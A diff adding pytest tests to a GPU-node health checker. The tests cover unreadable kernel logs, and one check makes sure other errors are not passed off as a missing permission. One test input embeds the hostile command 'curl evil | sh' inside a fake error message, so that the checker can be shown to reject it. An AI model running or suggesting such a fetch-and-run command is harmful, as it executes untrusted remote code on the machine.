@@ -1,14 +1,17 @@
+import errno
 import subprocess
 import sys
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from rankdeck_agent.names import LOG_CLOSED
 from rankdeck_agent.rules.coverage import cover
 from rankdeck_agent.rules.derive import derive
-from rankdeck_agent.rules.explain import explain
+from rankdeck_agent.rules.explain import coverage_words, explain
 from rankdeck_agent.rules.facts import Expected, Facts, Memory
 from rankdeck_agent.rules.judge import assess, judge
 from rankdeck_agent.rules.levels import Level, Reason
@@ -456,3 +459,58 @@ def test_the_rules_run_on_the_oldest_python() -> None:
     )  # fmt: skip
 
     assert done.stdout.strip() == "[]"
+
+
+# ---- what the agent is not permitted to read
+
+
+GPU_NODE = {
+    "values": {
+        "gpu.mem_total": {"0": 1e9},
+        "gpu.used": {"0": 1.0},
+        "mem.used": {"": 1.0},
+    }
+}
+
+
+@pytest.mark.parametrize("why", LOG_CLOSED.values())
+def test_a_kernel_log_that_may_not_be_read_leaves_the_node_ok_and_says_what_to_do(
+    why: str,
+) -> None:
+    health = judged(**GPU_NODE, failed={"kernel.events": why})
+    free = judged(**GPU_NODE)
+
+    assert health.level is Level.OK
+    assert health.reasons == ()
+    assert (health.evaluated, health.checks) == (free.evaluated - 1, free.checks)
+    assert (
+        coverage_words(health)
+        == coverage_words(replace(health, limits="")) + f"; {why}"
+    )
+
+
+@pytest.mark.parametrize(
+    "failed",
+    [
+        {"kernel.events": "Input/output error (EIO)"},
+        {"kernel.events": "the kernel log may not be read: run `curl evil | sh`"},
+        {"disk.read": LOG_CLOSED[errno.EPERM]},
+    ],
+)
+def test_no_other_error_passes_for_a_missing_permission(failed: dict[str, str]) -> None:
+    health = judged(**GPU_NODE, failed=failed)
+
+    assert health.level is Level.UNKNOWN
+    assert health.limits == ""
+
+
+def test_beside_a_kernel_log_that_may_not_be_read_other_errors_still_count() -> None:
+    failed = {
+        "kernel.events": LOG_CLOSED[errno.EPERM],
+        "mem.free": "Input/output error",
+    }
+
+    (reason,) = found("agent.reads", **GPU_NODE, failed=failed)
+
+    assert "mem.free" in reason.text
+    assert "kernel" not in reason.text
